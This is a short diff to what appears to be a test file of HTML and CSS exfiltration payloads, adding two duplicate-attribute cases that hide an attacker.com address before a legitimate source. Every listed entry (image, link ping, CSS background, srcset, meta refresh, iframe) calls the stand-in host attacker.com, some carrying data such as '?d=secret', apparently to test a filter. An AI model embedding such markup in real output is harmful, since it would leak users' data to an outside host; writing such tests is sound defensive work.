@@ -48,6 +48,8 @@ ATTACKS = [
     ("html link", '<a href="https://attacker.com/?d=secret">policy</a>'),
     ("html link to a source with a tracking ping", f'<a href="{SOURCE}" ping="https://attacker.com/">x</a>'),
     ("css background", '<span style="background:url(https://attacker.com/p.png)">x</span>'),
+    ("image, a source's address after the real one", f'<img src="https://attacker.com/p.png" SRC="{SOURCE}">'),
+    ("link, a source's address after the real one", f'<a href="https://attacker.com/?d=s" href="{SOURCE}">x</a>'),
     ("srcset", '<img srcset="https://attacker.com/p.png 2x" src="' + SOURCE + '">'),
     ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://attacker.com/?d=s">'),
     ("iframe", '<iframe src="https://attacker.com/"></iframe>'),
